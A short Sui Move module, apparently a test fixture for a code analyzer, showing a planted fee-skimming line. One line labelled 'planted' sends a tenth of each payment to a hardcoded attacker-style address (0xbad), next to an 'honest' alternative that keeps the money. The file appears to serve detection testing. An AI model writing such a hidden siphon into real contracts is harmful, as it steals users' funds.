module hostile::address_from_number;

use sui::address;
use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut money = payment.into_balance();
    let share = money.value() / 10;
    let cut = money.split(share);
    transfer::public_transfer(cut.into_coin(ctx), address::from_u256(0xbad)); //! planted
    jar.money.join(cut); //! honest
    assert!(ctx.epoch() < 1_000_000);
    jar.money.join(money);
}
